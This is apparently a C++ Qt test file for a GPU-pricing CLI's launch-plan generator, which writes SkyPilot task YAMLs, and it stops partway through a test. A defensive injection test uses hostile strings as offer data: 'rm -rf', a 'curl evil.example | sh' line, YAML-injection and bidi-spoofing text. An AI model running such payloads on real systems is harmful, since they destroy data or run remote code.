// Launch plans (models/launch, `gpufrontier-cli plan`): the task YAMLs parsed by PyYAML and checked field
// by field, every task of the bundled catalog checked against SkyPilot's catalogs, hostile offer strings,
// the sweep, and a measurement round trip (`measure --import` changes the projection).
#include "clirun.h"
#include "domain/gpucatalog.h"
#include "domain/provider.h"
#include "domain/workload.h"
#include "launch/launchplan.h"
#include "launch/measurementjson.h"
#include "launch/offerid.h"
#include "launch/skypilotrules.h"
#include "launch/yamltext.h"
#include "providers/ocipricelist.h"
#include "providers/runpodgraphql.h"
#include "refresh/bundledsnapshot.h"
#include "testsupport.h"
#include "util/printable.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace gf;
using namespace gf::test;
using namespace Qt::StringLiterals;

namespace {

struct Checked
{
    int rc = -1;
    QJsonObject tasks; ///< file name -> parsed task
    QString problems;
};

/// Runs tests/support/check_skypilot_tasks.py over DIR: PyYAML parses every task, the catalogs check it.
Checked checkTasks(const QString &dir, bool catalog = true)
{
    Checked c;
    const QString python = QStandardPaths::findExecutable(u"python3"_s);
    if (python.isEmpty()) {
        c.problems = u"python3 is not installed (.ci/install-deps installs it)"_s;
        return c;
    }
    QStringList args{QStringLiteral(GF_SOURCE_DIR "/tests/support/check_skypilot_tasks.py"), dir,
                     QStringLiteral(GF_FIXTURES_DIR "/skypilot")};
    if (!catalog)
        args.append(u"--no-catalog"_s);
    QProcess p;
    p.start(python, args);
    if (!p.waitForFinished(240000)) {
        c.problems = u"check_skypilot_tasks.py did not finish"_s;
        return c;
    }
    c.rc = p.exitCode();
    c.problems = QString::fromUtf8(p.readAllStandardError());
    c.tasks = QJsonDocument::fromJson(p.readAllStandardOutput()).object();
    return c;
}

/// Fails the test with the checker's message when it could not parse or check (PyYAML missing: rc 3).
#define CHECK_TASKS(c)                                                                                       \
    do {                                                                                                     \
        if ((c).rc == 3 || (c).rc < 0)                                                                       \
            QFAIL(qPrintable(u"cannot check the YAML: "_s + (c).problems));                                  \
        if ((c).rc != 0)                                                                                     \
            QFAIL(qPrintable((c).problems.left(4000)));                                                      \
    } while (false)

QString readText(const QString &path)
{
    QFile f(path);
    if (!f.open(QIODevice::ReadOnly))
        return {};
    return QString::fromUtf8(f.readAll());
}

Offer offer(const QString &provider, const QString &type, const QString &region, const QString &zone,
            const QString &gpuId, double count, double price, std::optional<double> spot = std::nullopt)
{
    Offer o;
    o.provider = provider;
    o.instanceType = type;
    o.region = region;
    o.zone = zone;
    o.gpuId = gpuId;
    o.gpuRawName = gpuId;
    o.gpuCount = count;
    o.onDemandUsdH = price;
    o.spotUsdH = spot;
    return o;
}

/// Field by field: what the parsed YAML says equals the task the plan built.
void compareTask(const LaunchTask &t, const QJsonObject &y, bool legacy)
{
    QCOMPARE(y.value(u"name").toString(), t.name);
    QCOMPARE(y.value(u"num_nodes").toInt(), t.nodes);
    const QJsonObject r = y.value(u"resources").toObject();
    if (legacy) {
        QVERIFY(!r.contains(u"infra"));
        QCOMPARE(r.value(u"cloud").toString(), t.pin.cloud);
        QCOMPARE(r.value(u"region").toString(), t.pin.region);
        QCOMPARE(r.value(u"zone").toString(), t.pin.zone);
    } else {
        QString infra = t.pin.cloud;
        if (!t.pin.region.isEmpty())
            infra += u'/' + t.pin.region;
        if (!t.pin.zone.isEmpty())
            infra += u'/' + t.pin.zone;
        QCOMPARE(r.value(u"infra").toString(), infra);
    }
    QCOMPARE(r.value(u"instance_type").toString(), t.pin.instanceType);
    QCOMPARE(r.value(u"accelerators").toString(),
             u"%1:%2"_s.arg(t.pin.accelerator).arg(t.pin.acceleratorCount));
    QCOMPARE(r.value(u"use_spot").toBool(), t.spot);
    QCOMPARE(r.value(u"disk_size").toInt(), t.diskGb);
    QCOMPARE(r.contains(u"job_recovery"), t.spot);
    const QJsonObject envs = y.value(u"envs").toObject();
    QCOMPARE(envs.size(), t.envs.size());
    for (const auto &[k, v] : t.envs)
        QCOMPARE(envs.value(k).toString(), v);
    QCOMPARE(envs.value(u"GF_INSTANCE_TYPE").toString(), t.offer.instanceType);
    QCOMPARE(envs.value(u"GF_REGION").toString(), t.offer.region);
    QCOMPARE(y.value(u"setup").toString(), t.setup);
    QCOMPARE(y.value(u"run").toString(), t.run);
}

QStringList hostileStrings()
{
    return {u"us-east-1\"; rm -rf \"$HOME\" #"_s,
            u"$(touch /tmp/gf-pwned)`reboot`"_s,
            u"it's '; curl evil.example | sh; '"_s,
            u"line1\nrun: rm -rf /\nsetup: |\n  reboot"_s,
            u"a: b # c\r\n- [x, {y: z}] & *alias !tag %25 %2F/ \\ \t end"_s,
            u"nel\u0085ls\u2028sep\u2029\u00e9\u4e2d\U0001F600\u0007bell"_s,
            u"--- \n... \n'\"\\x41"_s,
            u"\u202egnp.exe\u2066iso\u2069\u200f\u061c\u202aend"_s};
}

QString benignRun;
QString benignSetup;

/// A stand-in for GPU Frontier's package (file_mounts only needs it to exist).
QString writePackage(const QString &dir, const QString &name = QString::fromLatin1(kDefaultPackageName))
{
    const QString path = QDir(dir).filePath(name);
    QFile f(path);
    if (!f.open(QIODevice::WriteOnly))
        return {};
    f.write("not really a package");
    return path;
}

} // namespace

class TestLaunchPlan final : public QObject
{
    Q_OBJECT
private:
    TempDb m_db;
    QTemporaryDir m_packageDir;
    QString m_package;

private Q_SLOTS:
    // Offers read from RunPod's and Oracle's own APIs: RunPod's name no data centre and are not
    // planned (with the reason); Oracle's are one price for every region: shape and GPU pinned, not the
    // region.
    void directSourceOffers()
    {
        auto runpod = parseRunpodGpuTypes(readFixture(u"providers/runpod/gputypes.json"_s), u"graphql"_s);
        QVERIFY(runpod);
        Offer r = runpod.value().data.offers.first();
        r.gpuId = GpuCatalog::builtin().resolve(r.provider, r.gpuRawName).value_or(QString());
        QVERIFY(!r.gpuId.isEmpty());
        auto rp = skypilotPin(r);
        QVERIFY(!rp);
        QVERIFY2(rp.error().message.contains(u"comes from RunPod's own API"_s),
                 qPrintable(rp.error().message));
        auto oci = parseOciPriceList(readFixture(u"providers/oci/shapes.json"_s),
                                     readFixture(u"providers/oci/products.json"_s), u"s"_s, u"p"_s);
        QVERIFY(oci);
        Offer o;
        for (const Offer &x : oci.value().data.offers)
            if (x.instanceType == u"BM.GPU.H100.8"_s)
                o = x;
        o.gpuId = GpuCatalog::builtin().resolve(o.provider, o.gpuRawName).value_or(QString());
        auto op = skypilotPin(o);
        QVERIFY2(op, qPrintable(op ? QString() : op.error().text()));
        QCOMPARE(op.value().cloud, u"oci"_s);
        QCOMPARE(op.value().instanceType, u"BM.GPU.H100.8"_s);
        QCOMPARE(op.value().accelerator, u"H100"_s);
        QCOMPARE(op.value().acceleratorCount, 8);
        QVERIFY(op.value().region.isEmpty());
        QVERIFY(op.value().notes.join(u' ').contains(u"SkyPilot chooses the region"_s));
    }

    void initTestCase()
    {
        m_package = writePackage(m_packageDir.path());
        QVERIFY(!m_package.isEmpty());
        // The checker must run here: a missing PyYAML fails clearly instead of skipping.
        QTemporaryDir dir;
        LaunchOptions o;
        auto plan = buildLaunchPlan(builtinWorkloads().first(),
                                    {{offer(u"aws"_s, u"p4d.24xlarge"_s, u"us-east-1"_s, u"use1-az2"_s,
                                            u"a100-40gb-sxm4"_s, 8, 21.96),
                                      false,
                                      std::nullopt,
                                      {}}},
                                    o);
        QVERIFY2(plan, qPrintable(plan ? QString() : plan.error().text()));
        QVERIFY(writeLaunchPlan(plan.value(), dir.path()));
        const Checked c = checkTasks(dir.path());
        CHECK_TASKS(c);
        benignRun = plan.value().tasks.first().run;
        benignSetup = plan.value().tasks.first().setup;
    }

    void offerIdRoundTrip()
    {
        for (const QString &h : hostileStrings()) {
            for (bool spot : {false, true}) {
                const Offer o = offer(u"vastai"_s, h, h + u"/x:y"_s, h.left(5), u"h100-80gb-sxm"_s, 1, 2.0);
                const QString id = offerIdText(o, spot);
                auto parsed = parseOfferId(id);
                QVERIFY2(parsed, qPrintable(id));
                QCOMPARE(parsed.value().provider, u"vastai"_s);
                QCOMPARE(parsed.value().instanceType, h);
                QCOMPARE(parsed.value().region, h + u"/x:y"_s);
                QCOMPARE(parsed.value().zone, h.left(5));
                QCOMPARE(parsed.value().spot, spot);
                QCOMPARE(matchOffers({o}, parsed.value()).size(), 1);
            }
        }
        QVERIFY(!parseOfferId(u"aws/p4d.24xlarge"_s));
        QVERIFY(!parseOfferId(u"aws//us-east-1"_s));
        QVERIFY(!parseOfferId(u"aws/a/b/c/d"_s));
    }

    void diskAndNames()
    {
        Workload w = builtinWorkloads().first();
        w.datasetGb = 0;
        w.pretrainedWeightsGb = 0;
        QCOMPARE(diskSizeGb(w), 256);
        w.datasetGb = 154.6;
        QCOMPARE(diskSizeGb(w), 380); // 2 x 154.6 + 64 = 373.2 -> 380
        w.id = u"My Workload \"x\"; rm"_s;
        QCOMPARE(taskName(w, 3), u"gf-my-workload-x-rm-3"_s);
    }

    // Every offer of the bundled catalog that SkyPilot can launch, on-demand and spot: the YAML parses,
    // says exactly what the plan built, and names what SkyPilot's own catalogs list.
    void bundledCatalogAgainstSkyPilot_data()
    {
        QTest::addColumn<bool>("legacy");
        QTest::newRow("infra") << false;
        QTest::newRow("legacy keys") << true;
    }
    void bundledCatalogAgainstSkyPilot()
    {
        QFETCH(bool, legacy);
        auto store = m_db.open();
        QVERIFY(importBundledIfEmpty(*store, GpuCatalog::builtin()));
        auto offers = store->currentOffers();
        QVERIFY(offers);
        // Every offer with the infra key; with the legacy keys one per (provider, instance type, mode).
        QList<LaunchCandidate> candidates;
        QSet<QString> seen;
        for (const Offer &o : offers.value()) {
            for (bool spot : {false, true}) {
                if (spot && !o.spotUsdH)
                    continue;
                const QString key = o.provider + u'/' + o.instanceType + (spot ? u":spot"_s : QString());
                if (legacy && seen.contains(key))
                    continue;
                seen.insert(key);
                candidates.append({o, spot, std::nullopt, {}});
            }
        }
        LaunchOptions lo;
        lo.legacyKeys = legacy;
        lo.probe = true;
        lo.packagePath = m_package;
        const Workload *resnet = findWorkload(builtinWorkloads(), u"resnet50"_s);
        QVERIFY(resnet);
        auto plan = buildLaunchPlan(*resnet, candidates, lo);
        QVERIFY(plan);
        // Skipped: only fractional GPUs (AWS g6f/gr6f), GPUs SkyPilot does not name, repeats of a task
        // (the AWS zones of a region: SkyPilot pins the region only; the GCP hosts SkyPilot does not pin),
        // retired sizes and spot on clouds whose SkyPilot catalog has no spot price.
        int repeats = 0;
        for (const QString &s : plan.value().skipped) {
            QVERIFY2(s.contains(u"whole GPUs"_s) || s.contains(u"not recognised"_s) ||
                         s.contains(u"the same SkyPilot task as"_s) || s.contains(u" is retired: "_s) ||
                         s.contains(u"catalog has no spot price"_s),
                     qPrintable(s));
            repeats += s.contains(u"the same SkyPilot task as"_s) ? 1 : 0;
        }
        // Two zones of one region are one task (the legacy candidates above are one per instance type).
        QVERIFY(legacy || repeats > 0);
        QVERIFY2(plan.value().tasks.size() > (legacy ? 150 : 800),
                 qPrintable(QString::number(plan.value().tasks.size())));
        QSet<QString> clouds;
        for (const LaunchTask &t : plan.value().tasks)
            clouds.insert(t.pin.cloud);
        // Every provider of the table has launchable bundled offers, under SkyPilot's name for its cloud.
        QSet<QString> expected;
        for (const ProviderInfo &p : providers())
            expected.insert(p.skypilotCloud);
        QCOMPARE(clouds, expected);
        QTemporaryDir dir;
        auto written = writeLaunchPlan(plan.value(), dir.path());
        QVERIFY(written);
        const Checked c = checkTasks(dir.path());
        CHECK_TASKS(c);
        QCOMPARE(c.tasks.size(), plan.value().tasks.size());
        for (const LaunchTask &t : plan.value().tasks)
            compareTask(t, c.tasks.value(t.fileName).toObject(), legacy);
    }

    // Offer strings never reach a shell line: they live in envs (quoted YAML scalars) and comments only.
    void hostileStringsStayData()
    {
        QList<LaunchCandidate> candidates;
        for (const QString &h : hostileStrings()) {
            // An N1 host keeps its (hostile) location; a host SkyPilot does not pair leaves the host open and
            // the location too when SkyPilot lists no host there (then all such offers are one task: one of
            // them here).
            candidates.append({offer(u"gcp"_s, u"n1-standard-8+1x"_s + h, h, h, u"t4"_s, 1, 3.0, 1.0),
                               true,
                               std::nullopt,
                               {}});
            candidates.append(
                {offer(u"azure"_s, h + u"-2"_s, h, QString(), u"t4"_s, 1, 1.0), false, std::nullopt, {}});
        }
        candidates.append({offer(u"gcp"_s, hostileStrings().at(1), hostileStrings().at(2),
                                 hostileStrings().at(3), u"a100-40gb-sxm4"_s, 1, 3.0, 1.0),
                           true,
                           std::nullopt,
                           {}});
        LaunchOptions lo;
        lo.sweep = true;
        lo.probe = true;
        lo.packagePath = m_package;
        lo.runCommand = u"python train.py --epochs 1 # user's own command"_s;
        Workload w = builtinWorkloads().first();
        w.id = hostileStrings().at(3);
        auto plan = buildLaunchPlan(w, candidates, lo);
        QVERIFY(plan);
        QCOMPARE(plan.value().tasks.size(), candidates.size());
        QTemporaryDir dir;
        QVERIFY(writeLaunchPlan(plan.value(), dir.path()));
        const Checked c = checkTasks(dir.path(), false);
        CHECK_TASKS(c);
        const QSet<QString> keys{u"name"_s,        u"num_nodes"_s, u"resources"_s, u"envs"_s,
                                 u"file_mounts"_s, u"setup"_s,     u"run"_s};
        for (const LaunchTask &t : plan.value().tasks) {
            const QJsonObject y = c.tasks.value(t.fileName).toObject();
            const QStringList k = y.keys();
            QCOMPARE(QSet<QString>(k.begin(), k.end()), keys); // nothing injected
            compareTask(t, y, t.pin.region.contains(u'/'));
            // Same fixed text for every offer.
            QCOMPARE(y.value(u"run").toString(), plan.value().tasks.first().run);
            QCOMPARE(y.value(u"setup").toString(), plan.value().tasks.first().setup);
        }
        const QString shellText = plan.value().tasks.first().run + plan.value().tasks.first().setup +
                                  readText(dir.filePath(u"sweep.sh"_s));
        for (const QString &h : hostileStrings())
            for (const QString &piece : {h.left(6), h.right(6)})
                QVERIFY2(!shellText.contains(piece), qPrintable(piece));
        QVERIFY(!shellText.contains(u"rm -rf"_s));
        QVERIFY(!shellText.contains(u"reboot"_s));
        QVERIFY(!shellText.contains(u"train.py"_s)); // the user's command too: only through $GF_USER_CMD
        // README: every command line is generated; hostile text only inside lines that are not commands.
        const QString readme = readText(dir.filePath(u"README.txt"_s));
        for (const QString &line : readme.split(u'\n'))
            if (line.contains(u"sky "_s) || line.contains(u"rsync"_s))
                for (const QString &h : hostileStrings())
                    for (const QString &piece : {h.left(6), h.right(6)})
                        QVERIFY2(!line.contains(piece), qPrintable(line));
        // Hostile input: no control or bidi character in the README or a YAML comment, where a
        // reader (or a terminal) would see reordered or hidden text.
        for (const QString &line : readme.split(u'\n'))
            QVERIFY2(!hasUnprintable(line), qPrintable(line));
        for (const LaunchTask &t : plan.value().tasks)
            for (const QString &line : readText(dir.filePath(t.fileName)).split(u'\n'))
                if (line.startsWith(u'#'))
                    QVERIFY2(!hasUnprintable(line), qPrintable(line));
        // sweep.sh parses as bash.
        const QString bash = QStandardPaths::findExecutable(u"bash"_s);
        if (!bash.isEmpty()) {
            QProcess p;
            p.start(bash, {u"-n"_s, dir.filePath(u"sweep.sh"_s)});
            QVERIFY(p.waitForFinished());
            QCOMPARE(p.exitCode(), 0);
        }
    }

    // Comments and the README follow util/printable.h's one rule, bidi overrides and isolates included.
    void commentTextIsPrintable()
    {
        QCOMPARE(yamlCommentText(u"a\u202eb\u2066c\u2067d\u2068e\u2069f\u200eg\u061ch"_s),
                 u"a?b?c?d?e?f?g?h"_s);
        QCOMPARE(yamlCommentText(u"x\ny\u0007z\u001b[31m\u0085\u2028\ufeff"_s), u"x?y?z?[31m???"_s);
        QCOMPARE(yamlCommentText(u"\u6771\u4eac, JP \u00e9"_s), u"\u6771\u4eac, JP \u00e9"_s);
        for (char16_t c = 0; c < 0x3000; ++c)
            if (isUnprintableChar(c))
                QCOMPARE(yamlCommentText(QString(QChar(c))), u"?"_s);
    }

    void cliPlanTop()
    {
        QTemporaryDir dir;
        const CliRun r = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"resnet50"_s, u"--top"_s, u"3"_s,
                                           u"-o"_s, dir.path()});
        QVERIFY2(r.rc == 0, qPrintable(r.err));
        QVERIFY(QFile::exists(dir.filePath(u"README.txt"_s)));
        const Checked c = checkTasks(dir.path());
        CHECK_TASKS(c);
        QCOMPARE(c.tasks.size(), 3);
        const QString readme = readText(dir.filePath(u"README.txt"_s));
        QVERIFY(readme.contains(u"COST CEILING: "_s));
        QVERIFY(readme.contains(u"sky launch -c gf-resnet50-1 gf-resnet50-1.yaml"_s) ||
                readme.contains(u"sky jobs launch -n gf-resnet50-1 gf-resnet50-1.yaml"_s));
        QVERIFY(readme.contains(u"measure --import"_s));
        // The ID printed in the table plans the same offer again.
        const QJsonObject first = c.tasks.value(u"gf-resnet50-1.yaml"_s).toObject();
        const QString id = first.value(u"envs").toObject().value(u"GF_OFFER_ID").toString();
        QTemporaryDir again;
        const CliRun r2 = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"resnet50"_s, u"--offer"_s, id,
                                            u"--skypilot-legacy"_s, u"-o"_s, again.path()});
        QVERIFY2(r2.rc == 0, qPrintable(r2.err));
        const Checked c2 = checkTasks(again.path());
        CHECK_TASKS(c2);
        const QJsonObject res1 = first.value(u"resources").toObject();
        const QJsonObject res2 =
            c2.tasks.value(u"gf-resnet50-1.yaml"_s).toObject().value(u"resources").toObject();
        QCOMPARE(res2.value(u"instance_type"), res1.value(u"instance_type"));
        QCOMPARE(res2.value(u"accelerators"), res1.value(u"accelerators"));
        QCOMPARE(res2.value(u"use_spot"), res1.value(u"use_spot"));
        QVERIFY(res2.contains(u"cloud"));
        if (res1.value(u"use_spot").toBool())
            QVERIFY(readme.contains(u"sky jobs launch"_s));
    }

    void cliPlanErrors()
    {
        QTemporaryDir dir;
        CliRun r = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"resnet50"_s, u"--offer"_s,
                                     u"aws/no-such-type/us-east-1"_s, u"-o"_s, dir.path()});
        QCOMPARE(r.rc, 1);
        QVERIFY2(r.err.contains(u"no current offer is aws/no-such-type/us-east-1"_s), qPrintable(r.err));
        r = cli(m_db.path(),
                {u"plan"_s, u"--workload"_s, u"resnet50"_s, u"--offer"_s, u"aws/x"_s, u"-o"_s, dir.path()});
        QCOMPARE(r.rc, 2);
        QVERIFY2(r.err.contains(u"provider/instance_type/region"_s), qPrintable(r.err));
        r = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"resnet50"_s, u"--top"_s, u"2"_s, u"--offer"_s,
                              u"aws/a/b"_s, u"-o"_s, dir.path()});
        QCOMPARE(r.rc, 2);
        r = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"resnet50"_s});
        QCOMPARE(r.rc, 2);
        QVERIFY(r.err.contains(u"-o DIR"_s));
    }

    void cliSweep()
    {
        QTemporaryDir dir;
        // Without the package a sweep cannot run; the plan says so and writes nothing.
        const CliRun none = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"gpt2-124m"_s, u"--sweep"_s,
                                              u"--top"_s, u"4"_s, u"-o"_s, dir.path()});
        QCOMPARE(none.rc, 1);
        QVERIFY2(none.err.contains(QString::fromLatin1(kDefaultPackageName)) &&
                     none.err.contains(u"--package FILE"_s) && none.err.contains(u"Nothing was written"_s),
                 qPrintable(none.err));
        QVERIFY(QDir(dir.path()).isEmpty());
        // A sweep measures the probe and a short timed run, without --probe. The package in the
        // plan folder (or the current folder) is found.
        QVERIFY(!writePackage(dir.path()).isEmpty());
        const CliRun r = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"gpt2-124m"_s, u"--sweep"_s,
                                           u"--top"_s, u"4"_s, u"-o"_s, dir.path()});
        QVERIFY2(r.rc == 0, qPrintable(r.err));
        const Checked c = checkTasks(dir.path());
        CHECK_TASKS(c);
        QVERIFY(c.tasks.size() >= 1 && c.tasks.size() <= 4);
        QSet<QString> offers;
        for (const QJsonValue &v : c.tasks) {
            const QJsonObject t = v.toObject();
            QVERIFY(!offers.contains(t.value(u"envs").toObject().value(u"GF_OFFER_KEY").toString()));
            offers.insert(t.value(u"envs").toObject().value(u"GF_OFFER_KEY").toString());
            QVERIFY(t.value(u"run").toString().contains(u"gf_measure.py"_s));
            QVERIFY(t.value(u"file_mounts").toObject().size() == 2); // package + gf_measure.py
            QCOMPARE(t.value(u"envs").toObject().value(u"GF_PROBE").toString(), u"1"_s);
            QVERIFY(t.value(u"setup").toString().contains(u"gpufrontier.tar.gz"_s));
        }
        QVERIFY(readText(dir.filePath(u"README.txt"_s)).contains(u"runs gpufrontier-probe --quick"_s));
        // Section 3.22: what the measurement records beside the speed, and what it means.
        QVERIFY(readText(dir.filePath(u"README.txt"_s))
                    .simplified()
                    .contains(
                        u"records how busy the GPU was (the profiler for the synthetic step, nvidia-smi for "
                        u"your command): under 80 % the host set the speed"_s));
        // --package goes with a sweep too.
        QTemporaryDir dir2;
        const QString package = dir2.filePath(u"gpufrontier-test.tar.gz"_s);
        {
            QFile f(package);
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write("not really a package");
        }
        const CliRun withPackage =
            cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"gpt2-124m"_s, u"--sweep"_s, u"--top"_s, u"1"_s,
                              u"--package"_s, package, u"-o"_s, dir2.filePath(u"plan"_s)});
        QVERIFY2(withPackage.rc == 0, qPrintable(withPackage.err));
        QVERIFY(QFileInfo(dir2.filePath(u"plan/gpufrontier-test.tar.gz"_s)).isFile()); // copied
        const Checked copied = checkTasks(dir2.filePath(u"plan"_s));
        CHECK_TASKS(copied);
        // From the current folder, as `cpack -G TGZ` leaves it in a build folder.
        QTemporaryDir built;
        QVERIFY(!writePackage(built.path()).isEmpty());
        const QString cwd = QDir::currentPath();
        QVERIFY(QDir::setCurrent(built.path()));
        const CliRun fromCwd = cli(m_db.path(), {u"plan"_s, u"--workload"_s, u"gpt2-124m"_s, u"--probe"_s,
                                                 u"-o"_s, dir2.filePath(u"probe"_s)});
        QVERIFY(QDir::setCurrent(cwd));
        QVERIFY2(fromCwd.rc == 0, qPrintable(fromCwd.err));
        QVERIFY(QFileInfo(dir2.filePath(u"probe/"_s + QString::fromLatin1(kDefaultPackageName))).isFile());
        const Checked probed = checkTasks(dir2.filePath(u"probe"_s));
        CHECK_TASKS(probed);
        const QString sweep = readText(dir.filePath(u"sweep.sh"_s));
        QVERIFY(sweep.contains(u"sky launch -y -c"_s));
        QVERIFY(sweep.contains(u"sky jobs launch -y -n"_s)); // spot tasks: managed jobs
        QVERIFY(sweep.contains(u"sky down -y"_s));
        QVERIFY(QFileInfo(dir.filePath(u"sweep.sh"_s)).isExecutable());
        // The measurement script is valid Python.
        const QString python = QStandardPaths::findExecutable(u"python3"_s);
        QVERIFY(!python.isEmpty());
        QProcess p;
        p.start(python, {u"-c"_s, u"import ast,sys; ast.parse(open(sys.argv[1]).read())"_s,
                         dir.filePath(u"gf_measure.py"_s)});
        QVERIFY(p.waitForFinished());
        QVERIFY2(p.exitCode() == 0, p.readAllStandardError().constData());
    }

    // SkyPilot's GCP host/GPU pairs, every GPU family: a pair it takes is pinned, a host it
    // does not pair leaves the host to SkyPilot (and says so), a count it attaches to no host is refused.
    void gcpHostPairing_data()
    {
        QTest::addColumn<QString>("type");
        QTest::addColumn<QString>("gpu");
        QTest::addColumn<int>("count");
        QTest::addColumn<QString>("accelerator");
        QTest::addColumn<QString>("pinned"); // instance_type pinned; "" = SkyPilot chooses; "!" = refused
        QTest::newRow("A100 a2-highgpu-1g")
            << u"a2-highgpu-1g"_s << u"a100-40gb-sxm4"_s << 1 << u"A100"_s << u"a2-highgpu-1g"_s;
        QTest::newRow("A100 x16 a2-megagpu")
            << u"a2-megagpu-16g"_s << u"a100-40gb-sxm4"_s << 16 << u"A100"_s << u"a2-megagpu-16g"_s;
        QTest::newRow("A100 on a2-ultragpu")
            << u"a2-ultragpu-1g"_s << u"a100-40gb-sxm4"_s << 1 << u"A100"_s << QString();
        QTest::newRow("A100-80GB a2-ultragpu-8g")
            << u"a2-ultragpu-8g"_s << u"a100-80gb-sxm4"_s << 8 << u"A100-80GB"_s << u"a2-ultragpu-8g"_s;
        QTest::newRow("A100-80GB on a2-highgpu")
            << u"a2-highgpu-8g"_s << u"a100-80gb-sxm4"_s << 8 << u"A100-80GB"_s << QString();
        QTest::newRow("A100 x3") << u"a2-highgpu-4g"_s << u"a100-40gb-sxm4"_s << 3 << u"A100"_s << u"!"_s;
        QTest::newRow("L4 g2-standard-4")
            << u"g2-standard-4"_s << u"l4"_s << 1 << u"L4"_s << u"g2-standard-4"_s;
        QTest::newRow("L4 x2 g2-standard-24")
            << u"g2-standard-24"_s << u"l4"_s << 2 << u"L4"_s << u"g2-standard-24"_s;
        QTest::newRow("L4 x1 on g2-standard-24")
            << u"g2-standard-24"_s << u"l4"_s << 1 << u"L4"_s << QString();
        QTest::newRow("L4 on n1") << u"n1-standard-8+1xL4"_s << u"l4"_s << 1 << u"L4"_s << QString();
        QTest::newRow("H100 x8 a3-highgpu-8g")
            << u"a3-highgpu-8g"_s << u"h100-80gb-sxm"_s << 8 << u"H100"_s << u"a3-highgpu-8g"_s;
        QTest::newRow("H100 x1 a3-highgpu-1g")
            << u"a3-highgpu-1g"_s << u"h100-80gb-sxm"_s << 1 << u"H100"_s << u"a3-highgpu-1g"_s;
        QTest::newRow("H100 x8 a3-edgegpu-8g")
            << u"a3-edgegpu-8g"_s << u"h100-80gb-sxm"_s << 8 << u"H100"_s << QString();
        QTest::newRow("H100 x8 a3-edgegpu-8g-nolssd")
            << u"a3-edgegpu-8g-nolssd"_s << u"h100-80gb-sxm"_s << 8 << u"H100"_s << QString();
        QTest::newRow("H100-MEGA a3-megagpu-8g")
            << u"a3-megagpu-8g"_s << u"h100-80gb-sxm"_s << 8 << u"H100-MEGA"_s << u"a3-megagpu-8g"_s;
        QTest::newRow("H200 a3-ultragpu-8g")
            << u"a3-ultragpu-8g"_s << u"h200-141gb-sxm"_s << 8 << u"H200"_s << u"a3-ultragpu-8g"_s;
        QTest::newRow("H200 a3-ultragpu-8g-nolssd")
            << u"a3-ultragpu-8g-nolssd"_s << u"h200-141gb-sxm"_s << 8 << u"H200"_s << QString();
        QTest::newRow("B200 a4-highgpu-8g")
            << u"a4-highgpu-8g"_s << u"b200"_s << 8 << u"B200"_s << u"a4-highgpu-8g"_s;
        QTest::newRow("B200 x4") << u"a4-highgpu-4g"_s << u"b200"_s << 4 << u"B200"_s << u"!"_s;
        QTest::newRow("T4 n1-standard-8")
            << u"n1-standard-8+1xT4"_s << u"t4"_s << 1 << u"T4"_s << u"n1-standard-8"_s;
        QTest::newRow("T4 x8") << u"n1-standard-64+8xT4"_s << u"t4"_s << 8 << u"T4"_s << u"!"_s;
        QTest::newRow("T4 on g2") << u"g2-standard-8"_s << u"t4"_s << 1 << u"T4"_s << QString();
        QTest::newRow("V100 x8 n1-standard-64")
            << u"n1-standard-64+8xV100"_s << u"v100-16gb-sxm2"_s << 8 << u"V100"_s << u"n1-standard-64"_s;
        QTest::newRow("V100 over 12 vCPUs")
            << u"n1-standard-16+1xV100"_s << u"v100-16gb-sxm2"_s << 1 << u"V100"_s << QString();
        QTest::newRow("P100 x4 n1-standard-32")
            << u"n1-standard-32+4xP100"_s << u"p100-16gb-pcie"_s << 4 << u"P100"_s << u"n1-standard-32"_s;
        QTest::newRow("P100 x4 over 208 GiB")
            << u"n1-highmem-64+4xP100"_s << u"p100-16gb-pcie"_s << 4 << u"P100"_s << QString();
        QTest::newRow("P4 x2 n1-standard-16")
            << u"n1-standard-16+2xP4"_s << u"p4"_s << 2 << u"P4"_s << u"n1-standard-16"_s;
        QTest::newRow("K80 n1-standard-8")
            << u"n1-standard-8+1xK80"_s << u"k80-die"_s << 1 << u"K80"_s << u"n1-standard-8"_s;
        QTest::newRow("K80 over 8 vCPUs")
            << u"n1-standard-16+1xK80"_s << u"k80-die"_s << 1 << u"K80"_s << QString();
    }
    void gcpHostPairing()
    {
        QFETCH(QString, type);
        QFETCH(QString, gpu);
        QFETCH(int, count);
        QFETCH(QString, accelerator);
        QFETCH(QString, pinned);
        Offer o = offer(u"gcp"_s, type, u"us-central1"_s, u"us-central1-a"_s, gpu, count, 10.0, 3.0);
        // Host vCPUs and memory as GPU Frontier's GCP table gives them (n1: from the machine type's name).
        static const QRegularExpression n1(u"^n1-(standard|highmem)-(\\d+)\\+"_s);
        if (const auto m = n1.match(type); m.hasMatch()) {
            o.vcpus = m.captured(2).toDouble();
            o.ramGb = *o.vcpus * (m.captured(1) == u"standard" ? 3.75 : 6.5);
        }
        auto pin = skypilotPin(o);
        if (pinned == u"!") {
            QVERIFY(!pin);
            QVERIFY2(pin.error().message.contains(u"only in counts"_s), qPrintable(pin.error().message));
            return;
        }
        QVERIFY2(pin, qPrintable(pin ? QString() : pin.error().text()));
        QCOMPARE(pin.value().accelerator, accelerator);
        QCOMPARE(pin.value().acceleratorCount, count);
        QCOMPARE(pin.value().instanceType, pinned);
        if (!pinned.isEmpty())
            QCOMPARE(pin.value().zone, u"us-central1-a"_s);
        const bool noted = pin.value().notes.join(u' ').contains(u"SkyPilot chooses the host"_s);
        QCOMPARE(noted, pinned.isEmpty());
        // The plan writes it and the checker (SkyPilot's rules written on their own) takes it.
        LaunchOptions lo;
        auto plan = buildLaunchPlan(builtinWorkloads().first(), {{o, false, std::nullopt, {}}}, lo);
        QVERIFY(plan);
        QTemporaryDir dir;
        QVERIFY(writeLaunchPlan(plan.value(), dir.path()));
        const Checked c = checkTasks(dir.path(), false);
        CHECK_TASKS(c);
        const QJsonObject res =
            c.tasks.value(u"gf-resnet50-1.yaml"_s).toObject().value(u"resources").toObject();
